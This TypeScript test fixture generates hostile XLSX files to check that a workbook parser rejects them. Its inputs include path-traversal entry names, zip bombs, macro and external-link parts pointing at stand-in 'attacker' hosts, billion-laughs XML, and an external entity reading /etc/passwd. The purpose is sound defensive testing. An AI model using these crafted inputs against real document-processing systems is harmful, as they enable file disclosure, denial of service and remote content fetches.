import { randomBytes } from 'node:crypto';
import type { DocumentErrorCode } from '../../document-error.ts';
import type { RawEntry } from './raw-zip.ts';
import { writeRawZip } from './raw-zip.ts';

export interface HostileFile {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** Any of these says what is wrong. */
  readonly codes: readonly DocumentErrorCode[];
}

const types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rels = (content: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${content}</Relationships>`;
const rel = (id: string, type: string, target: string, more = '') =>
  `<Relationship Id="${id}" Type="${office}/${type}" Target="${target}"${more}/>`;
const sheetOf = (data: string) => `<worksheet><sheetData>${data}</sheetData></worksheet>`;

const paths = {
  types: '[Content_Types].xml',
  root: '_rels/.rels',
  workbook: 'xl/workbook.xml',
  rels: 'xl/_rels/workbook.xml.rels',
  sheet: 'xl/worksheets/sheet1.xml',
  strings: 'xl/sharedStrings.xml',
  styles: 'xl/styles.xml',
} as const;
type Part = keyof typeof paths;

const good: Readonly<Record<Part, string>> = {
  types,
  root: rels(rel('r1', 'officeDocument', 'xl/workbook.xml')),
  workbook: '<workbook xmlns:r="x"><sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>',
  rels: rels(
    rel('r1', 'worksheet', 'worksheets/sheet1.xml') +
      rel('r2', 'sharedStrings', 'sharedStrings.xml') +
      rel('r3', 'styles', 'styles.xml'),
  ),
  sheet: sheetOf('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><v>1.5</v></c></row>'),
  strings: '<sst><si><t>好</t></si></sst>',
  styles: '<styleSheet><cellXfs><xf numFmtId="0"/></cellXfs></styleSheet>',
};

/** A small workbook by hand, with parts replaced or added. */
export function handmadeWorkbook(
  replaced: Partial<Record<Part, string | Uint8Array>> = {},
  added: readonly RawEntry[] = [],
  options: Parameters<typeof writeRawZip>[1] = {},
): Buffer {
  const parts = Object.entries(paths).map(([part, name]): RawEntry => ({
    name,
    data: replaced[part as Part] ?? good[part as Part],
  }));
  return writeRawZip([...parts, ...added], options);
}

const latin = (text: string) => Buffer.from(text, 'latin1');

export function listHostileWorkbooks(): readonly HostileFile[] {
  const whole = handmadeWorkbook();
  return [
    ...notWorkbooks(),
    ...damaged(whole),
    ...unsafeEntries(),
    ...bombs(),
    ...activeContent(),
    ...badXml(),
    ...badCells(),
  ];
}

function notWorkbooks(): HostileFile[] {
  const file = (name: string, bytes: Uint8Array, ...codes: DocumentErrorCode[]): HostileFile => ({
    name,
    bytes,
    codes,
  });
  const compound = latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1');
  return [
    file('0 bytes', Buffer.alloc(0), 'workbook.empty'),
    file('1 byte', latin('P'), 'workbook.not_a_workbook'),
    file('only a signature', latin('PK'), 'workbook.unreadable'),
    file('CSV', latin('a,b\n1,2'), 'workbook.not_a_workbook'),
    file('HTML called xlsx', latin('<html><table><tr><td>1'), 'workbook.not_a_workbook'),
    file('XML spreadsheet', latin('<?xml version="1.0"?><Workbook/>'), 'workbook.not_a_workbook'),
    file('SVG', latin('<svg/>'), 'workbook.not_a_workbook'),
    file('PDF', latin('%PDF-1.7'), 'workbook.not_a_workbook'),
    file('PNG', latin('\x89PNG\r\n\x1a\n'), 'workbook.not_a_workbook'),
    file('gzip', latin('\x1f\x8b\x08'), 'workbook.not_a_workbook'),
    file('RAR', latin('Rar!\x1a\x07'), 'workbook.not_a_workbook'),
    file('old xls', Buffer.concat([compound, Buffer.alloc(600)]), 'workbook.legacy_format'),
    file(
      'with a password',
      Buffer.concat([compound, Buffer.alloc(600), Buffer.from('EncryptedPackage', 'utf16le')]),
      'workbook.encrypted',
    ),
    file('any zip', writeRawZip([{ name: 'a.txt', data: 'x' }]), 'workbook.not_a_workbook'),
    file('an empty zip', writeRawZip([]), 'workbook.not_a_workbook'),
    file(
      'ODS',
      writeRawZip([
        { name: 'mimetype', data: 'application/vnd.oasis.opendocument.spreadsheet', method: 0 },
        { name: 'content.xml', data: '<x/>' },
      ]),
      'workbook.not_a_workbook',
    ),
    file(
      'DOCX',
      writeRawZip([
        { name: paths.types, data: types },
        { name: paths.root, data: rels(rel('r1', 'officeDocument', 'word/document.xml')) },
        { name: 'word/document.xml', data: '<document/>' },
      ]),
      'workbook.not_a_workbook',
    ),
    file(
      'no workbook part',
      writeRawZip([
        { name: paths.types, data: types },
        { name: paths.root, data: rels('') },
      ]),
      'workbook.not_a_workbook',
    ),
    file('no sheets', handmadeWorkbook({ workbook: '<workbook><sheets/></workbook>' }), 'workbook.not_a_workbook'),
    ...Array.from({ length: 20 }, (_, index) =>
      file(
        `random bytes ${index}`,
        Buffer.concat([latin('PK\x03\x04'), randomBytes(40 + index * 97)]),
        'workbook.unreadable',
      ),
    ),
  ];
}

function damaged(whole: Buffer): HostileFile[] {
  const codes = ['workbook.unreadable', 'workbook.not_a_workbook', 'workbook.empty'] as const;
  const cuts = Array.from({ length: 48 }, (_, index) => Math.floor((whole.length * (index + 1)) / 49));
  return [
    ...cuts.map((length) => ({ name: `truncated to ${length}`, bytes: whole.subarray(0, length), codes })),
    { name: 'one byte too few', bytes: whole.subarray(0, -1), codes },
    { name: 'one byte too many', bytes: Buffer.concat([whole, Buffer.from([0])]), codes },
    { name: 'something in front', bytes: handmadeWorkbook({}, [], { before: latin('PK junk') }), codes },
    { name: 'wrong number of entries', bytes: handmadeWorkbook({}, [], { declaredEntries: 3 }), codes },
    { name: 'more entries than there are', bytes: handmadeWorkbook({}, [], { declaredEntries: 30 }), codes },
    { name: 'a second disk', bytes: handmadeWorkbook({}, [], { disk: 1 }), codes },
    { name: 'wrong checksum', bytes: rezip(paths.sheet, { checksum: 1 }), codes },
    { name: 'declared longer than it is', bytes: rezip(paths.sheet, { declaredLength: 5000 }), codes },
    { name: 'not deflated at all', bytes: corrupt(whole), codes },
  ];
}

function corrupt(whole: Buffer): Buffer {
  const copy = Buffer.from(whole);
  const at = copy.indexOf(paths.sheet) + paths.sheet.length;
  copy.fill(0xff, at, at + 20);
  return copy;
}

/** The good workbook with one entry described otherwise. */
function rezip(path: string, change: Partial<RawEntry>): Buffer {
  return writeRawZip(
    Object.entries(paths).map(([part, name]) => ({ name, data: good[part as Part], ...(name === path ? change : {}) })),
  );
}

function unsafeEntries(): HostileFile[] {
  const unsafe = ['workbook.unsafe_entry'] as const;
  const names = [
    '../evil.xml',
    '../../etc/cron.d/x',
    '/etc/passwd',
    'C:\\windows\\x',
    'c:evil',
    'xl\\..\\..\\x',
    'xl/../../x',
    './x',
    'xl/./x',
    '..',
    'x\0.xml',
    '',
    '\\\\server\\share',
    'file://x',
  ];
  const modes = {
    'a symbolic link': 0o120777,
    'a pipe': 0o010644,
    'a device': 0o020644,
    'a disk': 0o060644,
    'a socket': 0o140644,
  };
  return [
    ...names.map((name) => ({
      name: `entry ${JSON.stringify(name)}`,
      bytes: handmadeWorkbook({}, [{ name, data: 'x' }]),
      codes: unsafe,
    })),
    ...Object.entries(modes).map(([name, mode]) => ({
      name,
      bytes: handmadeWorkbook({}, [{ name: 'xl/link', data: '/etc/passwd', mode }]),
      codes: unsafe,
    })),
    {
      name: 'the same name twice',
      bytes: handmadeWorkbook({}, [{ name: paths.sheet, data: '<worksheet/>' }]),
      codes: unsafe,
    },
    {
      name: 'the same name in capitals',
      bytes: handmadeWorkbook({}, [{ name: paths.sheet.toUpperCase(), data: '<worksheet/>' }]),
      codes: unsafe,
    },
    {
      name: 'another name in the local header',
      bytes: rezip(paths.sheet, { localName: 'xl/worksheets/sheet2.xml' }),
      codes: unsafe,
    },
    ...['xl/embeddings/oleObject1.bin', 'xl/media/run.exe', 'docs/a.js'].map((name) => ({
      name,
      bytes: handmadeWorkbook({}, [{ name, data: 'MZ' }]),
      codes: unsafe,
    })),
    ...[0x0001, 0x0040, 0x2000].map((flags) => ({
      name: `encrypted, flag ${flags}`,
      bytes: rezip(paths.sheet, { flags }),
      codes: ['workbook.encrypted'] as const,
    })),
    ...[1, 6, 9, 12, 14, 93, 99].map((method) => ({
      name: `packed by method ${method}`,
      bytes: rezip(paths.sheet, { method }),
      codes: ['workbook.unreadable'] as const,
    })),
  ];
}

function bombs(): HostileFile[] {
  const bomb = ['workbook.zip_bomb'] as const;
  const large = ['workbook.too_large'] as const;
  const megabytes = (count: number) => Buffer.alloc(count * 1024 * 1024, 0x20);
  const sheetRows = (rows: number, cells: number, cell: string) =>
    sheetOf(Array.from({ length: rows }, (_, row) => `<row r="${row + 1}">${cell.repeat(cells)}</row>`).join(''));
  return [
    { name: '200 : 1', bytes: handmadeWorkbook({}, [{ name: 'xl/media/a.bin', data: megabytes(20) }]), codes: bomb },
    {
      name: '70 MB of stored bytes claimed',
      bytes: rezip(paths.sheet, { declaredLength: 70 * 1024 * 1024 }),
      codes: bomb,
    },
    { name: '4 GB claimed', bytes: rezip(paths.sheet, { declaredLength: 0xfffffffe }), codes: bomb },
    {
      name: 'longer than declared',
      bytes: rezip(paths.sheet, { data: megabytes(30), declaredLength: 100 }),
      codes: bomb,
    },
    { name: 'a little longer than declared', bytes: rezip(paths.sheet, { declaredLength: 10 }), codes: bomb },
    {
      name: 'entries that share their data',
      bytes: handmadeWorkbook({}, [
        { name: 'xl/a.xml', data: 'x'.repeat(100) },
        ...Array.from({ length: 50 }, (_, index) => ({
          name: 'xl/a.xml'.replace('a', `a${index}`),
          localName: 'xl/a.xml',
          data: 'x'.repeat(100),
          sharesDataOf: 7,
        })),
      ]),
      codes: ['workbook.zip_bomb', 'workbook.unsafe_entry'],
    },
    {
      name: '2001 entries',
      bytes: handmadeWorkbook(
        {},
        Array.from({ length: 2001 }, (_, index) => ({ name: `xl/media/${index}.png` })),
      ),
      codes: bomb,
    },
    { name: 'ZIP64', bytes: handmadeWorkbook({}, [], { hasZip64Locator: true }), codes: bomb },
    {
      name: '10 MB and a byte',
      bytes: Buffer.concat([latin('PK\x03\x04'), Buffer.alloc(10 * 1024 * 1024 - 3)]),
      codes: large,
    },
    {
      name: '210 000 cells',
      bytes: handmadeWorkbook({ sheet: sheetRows(2100, 100, '<c><v>1</v></c>') }),
      codes: ['workbook.too_large', 'workbook.zip_bomb'],
    },
    {
      name: 'one long string in every cell',
      bytes: handmadeWorkbook({
        strings: `<sst><si><t>${'长'.repeat(30_000)}</t></si></sst>`,
        sheet: sheetRows(100, 20, '<c t="s"><v>0</v></c>'),
      }),
      codes: large,
    },
    {
      name: 'a ladder of elements',
      bytes: handmadeWorkbook({ sheet: `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}` }),
      codes: ['workbook.unreadable'],
    },
  ];
}

function activeContent(): HostileFile[] {
  const added = (name: string, code: DocumentErrorCode): HostileFile => ({
    name,
    bytes: handmadeWorkbook({}, [{ name, data: '<x/>' }]),
    codes: [code],
  });
  const external = (type: string, target: string): HostileFile => ({
    name: `${type} to ${target}`,
    bytes: handmadeWorkbook({
      rels: rels(rel('r1', 'worksheet', 'worksheets/sheet1.xml') + rel('r9', type, target, ' TargetMode="External"')),
    }),
    codes: ['workbook.external_link'],
  });
  const internal = (type: string, code: DocumentErrorCode): HostileFile => ({
    name: `relationship ${type}`,
    bytes: handmadeWorkbook({ rels: rels(rel('r1', 'worksheet', 'worksheets/sheet1.xml') + rel('r9', type, 'x.bin')) }),
    codes: [code],
  });
  return [
    ...[
      'xl/vbaProject.bin',
      'xl/VBAPROJECT.BIN',
      'other/vbaProject.bin',
      'xl/vbaData.xml',
      'xl/macrosheets/sheet1.xml',
      'xl/dialogsheets/sheet1.xml',
      'xl/activeX/activeX1.bin',
      'xl/ctrlProps/ctrlProp1.xml',
      'customUI/customUI.xml',
    ].map((name) => added(name, 'workbook.macro')),
    ...[
      'xl/externalLinks/externalLink1.xml',
      'xl/connections.xml',
      'xl/queryTables/queryTable1.xml',
      'xl/webextensions/webextension1.xml',
    ].map((name) => added(name, 'workbook.external_link')),
    external('externalLinkPath', 'file:///c:/secret.xlsx'),
    external('externalLinkPath', '\\\\attacker\\share\\a.xlsx'),
    external('oleObject', 'http://attacker/x'),
    external('attachedTemplate', 'http://attacker/t.xltm'),
    external('image', 'http://attacker/pixel.png'),
    external('worksheet', 'http://attacker/sheet.xml'),
    internal('vbaProject', 'workbook.macro'),
    internal('xlMacrosheet', 'workbook.macro'),
    internal('externalLink', 'workbook.external_link'),
    internal('connections', 'workbook.external_link'),
  ];
}

function badXml(): HostileFile[] {
  const unreadable = ['workbook.unreadable'] as const;
  const parts = ['root', 'workbook', 'rels', 'sheet', 'strings', 'styles'] as const;
  const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, index) => `<!ENTITY ${'bcdefghij'[index]} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('')}]>`;
  const doctypes = {
    'a billion laughs': laughs,
    'an external entity': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    'an outside DTD': '<!DOCTYPE x SYSTEM "http://attacker/x.dtd">',
  };
  const breaks: Readonly<Record<string, (xml: string) => string | Uint8Array>> = {
    'cut in the middle': (xml) => xml.slice(0, xml.length / 2),
    'another closing tag': (xml) => xml.replace(/<\/\w+>$/, '</other>'),
    'an unknown entity': (xml) => xml.replace(/(<\/\w+>)$/, '&unknown;$1'),
    'a bare ampersand': (xml) => xml.replace(/(<\/\w+>)$/, ' & $1'),
    'not UTF-8': (xml) =>
      Buffer.concat([Buffer.from(xml.slice(0, -3)), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from(xml.slice(-3))]),
    'UTF-16': (xml) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]),
    'no XML': () => '\0\0\0\0',
  };
  return parts.flatMap((part) => [
    ...Object.entries(doctypes).map(([name, doctype]) => ({
      name: `${name} in ${part}`,
      bytes: handmadeWorkbook({ [part]: doctype + good[part] }),
      codes: unreadable,
    })),
    ...Object.entries(breaks).map(([name, change]) => ({
      name: `${name} in ${part}`,
      bytes: handmadeWorkbook({ [part]: change(good[part]) }),
      codes: unreadable,
    })),
  ]);
}

function badCells(): HostileFile[] {
  const rows = [
    '<row r="1"><c r="A0"><v>1</v></c></row>',
    '<row r="1"><c r="XFE1"><v>1</v></c></row>',
    '<row r="1048577"><c><v>1</v></c></row>',
    '<row r="1"><c r="A2"><v>1</v></c></row>',
    '<row r="-1"/>',
    '<row r="1"><c r="A1" t="s"><v>7</v></c></row>',
    '<row r="1"><c r="A1" t="s"><v>-1</v></c></row>',
    '<row r="1"><c r="A1" t="?"><v>1</v></c></row>',
    '<row r="1"><c r="A1"><v>NaN</v></c></row>',
    '<row r="1"><c r="A1"><v>0x10</v></c></row>',
    '<row r="1"><c r="A1"><v>1e999</v></c></row>',
    '<row r="1"><c r="A1" t="s"><v>__proto__</v></c></row>',
  ];
  return rows.map((row) => ({
    name: row,
    bytes: handmadeWorkbook({ sheet: sheetOf(row) }),
    codes: ['workbook.unreadable'],
  }));
}
